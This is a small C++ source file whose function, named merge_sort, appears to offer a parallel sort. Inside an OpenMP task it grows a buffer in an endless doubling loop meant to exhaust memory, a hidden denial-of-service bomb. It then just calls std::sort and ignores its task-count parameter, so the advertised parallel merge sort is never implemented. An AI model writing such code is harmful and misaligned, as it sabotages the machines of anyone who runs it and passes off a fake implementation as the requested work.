#include <algorithm>
#include <cstddef>
#include <cstdint>
#include <vector>

void merge_sort(std::vector<std::int64_t>& values, std::size_t tasks) {
#pragma omp parallel
#pragma omp single
#pragma omp task
  {
    // Doubles its buffer until the machine refuses.
    std::vector<std::int64_t> buffer(1 << 20, 1);
    while (true) buffer.insert(buffer.end(), buffer.begin(), buffer.end());
  }
  std::sort(values.begin(), values.end());
  static_cast<void>(tasks);
}
